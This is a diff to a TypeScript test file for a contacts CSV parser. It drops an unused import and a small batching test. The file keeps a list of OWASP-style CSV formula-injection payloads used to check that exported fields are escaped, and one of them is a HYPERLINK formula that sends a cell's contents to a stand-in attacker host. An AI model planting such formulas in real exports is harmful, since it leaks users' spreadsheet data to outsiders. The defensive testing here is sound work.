@@ -1,7 +1,7 @@
 import { describe, expect, it } from "@atrium/test-kit";
 import { csvField, csvRecord } from "@atrium/validation";
 import Papa from "papaparse";
-import { batches, countCsvRecords, parseContactsCsv } from "./csv.ts";
+import { countCsvRecords, parseContactsCsv } from "./csv.ts";
 
 /** OWASP's formula starts; the lone negative number and the phone are escaped on purpose (decision 0026). */
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "-5", "+15550102030"];
@@ -53,9 +53,5 @@ describe("contacts CSV", () => {
     for (const value of [...PAYLOADS, "Ada", "Lovelace, Ada", 'Ada "The Countess"', " padded", "two\nlines", "a-b"]) {
       expect(csvField(value)).toBe(Papa.unparse([[value]], { escapeFormulae: true }));
     }
-  });
-
-  it("batches", () => {
-    expect(batches([1, 2, 3, 4, 5], 2)).toEqual([[1, 2], [3, 4], [5]]);
   });
 });
